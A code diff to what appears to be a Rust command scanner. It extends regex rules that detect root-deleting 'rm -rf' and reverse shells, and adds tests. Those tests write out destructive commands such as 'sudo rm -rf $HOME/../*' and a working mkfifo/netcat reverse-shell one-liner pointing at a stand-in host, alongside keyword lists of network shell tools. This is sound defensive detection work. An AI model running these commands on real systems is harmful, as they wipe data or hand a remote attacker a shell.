@@ -37,7 +37,7 @@ pub(super) fn rules() -> Vec<Rule> {
             D,
             Critical,
             &["rm -"],
-            r#"\brm\s+(?:-{1,2}[a-z-]+\s+)*?(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-{1,2}[a-z-]+\s+)*(?:[^\s;&|`]+\s+)*?["']?(?:/\*?|~/?\*?|\$\{?home\}?/?\*?|/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var|users|library|system)/?\*?)["']?(?:\s|$|[;&|)`])"#,
+            r#"\brm\s+(?:-{1,2}[a-z-]+\s+)*?(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-{1,2}[a-z-]+\s+)*(?:[^\s;&|`]+\s+)*?["']?(?:/\*?|~/?\*?|\$\{?home\}?/?\*?|(?:~|\$\{?home\}?)/\.\.(?:/\*?)?|/\*/[^\s;&|`'"]*|/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var|users|library|system)/?\*?)["']?(?:\s|$|[;&|)`])"#,
         )
         .requires(&[" /", "'/", "\"/", " ~", "'~", "\"~", "$home", "${home}", "--no-preserve-root"])
         .warnable(),
@@ -88,7 +88,7 @@ pub(super) fn rules() -> Vec<Rule> {
             D,
             Critical,
             &["/dev/tcp/", "/dev/udp/", "nc ", "ncat ", "netcat ", "socat ", "mkfifo", "socket", "fsockopen"],
-            r#"/dev/(?:tcp|udp)/[^\s/]+/\d+|\b(?:nc|ncat|netcat)\b[^\n|;&]*\s(?:-[a-z]*[ec]\s*\S|--(?:sh-)?exec\b)|\bsocat\b[^\n]*\bexec:|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^\n]*\|\s*/bin/(?:ba)?sh\b|\bsocket\b[^\n]*\bconnect\b[^\n]*(?:dup2|subprocess|pty\.spawn|/bin/(?:ba)?sh|\bexec)|\bfsockopen\b[^\n]*(?:exec|system|proc_open|/bin/(?:ba)?sh)"#,
+            r#"/dev/(?:tcp|udp)/[^\s/]+/\d+|\b(?:nc|ncat|netcat)\b[^\n|;&]*\s(?:-[a-z]*[ec]\s*\S|--(?:sh-)?exec\b)|\bsocat\b[^\n]*\bexec:|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^\n]*\|\s*/bin/(?:ba)?sh\b|\b(?:/bin/)?(?:ba|z|da)?sh\s+-i\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\bsocket\b[^\n]*\bconnect\b[^\n]*(?:dup2|subprocess|pty\.spawn|/bin/(?:ba)?sh|\bexec)|\bfsockopen\b[^\n]*(?:exec|system|proc_open|/bin/(?:ba)?sh)"#,
         )
         .requires(&["/dev/tcp/", "/dev/udp/", "-e", "-c", "exec", "|", "connect", "fsockopen"])
         .assess(reverse_shell)
@@ -182,6 +182,23 @@ fn reverse_shell(h: &Hit<'_>) -> Option<Severity> {
 mod tests {
     use crate::scan::testutil::{assert_hit, assert_not_flagged, assert_severity};
     use crate::scan::{Category::*, Severity::*};
+
+    #[test]
+    fn parent_of_home_and_root_globs_are_the_root() {
+        assert_severity("cd ~ && sudo rm -rf $HOME/../* /tmp/x", "shell.rm-rf-root", Critical);
+        assert_severity("rm -rf /*/node_modules", "shell.rm-rf-root", Critical);
+        // A project's own globs are not.
+        assert_not_flagged("rm -rf ./*/node_modules ../build");
+    }
+
+    #[test]
+    fn an_interactive_shell_piped_into_netcat_is_a_reverse_shell() {
+        let body =
+            "rm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc tunnel.example 9001 > /tmp/f &\n";
+        assert_hit(body, "shell.reverse-shell", DestructiveShell, Critical, 2);
+        // A shell's output piped to netcat without `-i` is a transfer.
+        assert_not_flagged("sh ./report.sh | nc -q1 logs.internal 5140");
+    }
 
     #[test]
     fn finds_the_root_among_several_operands() {
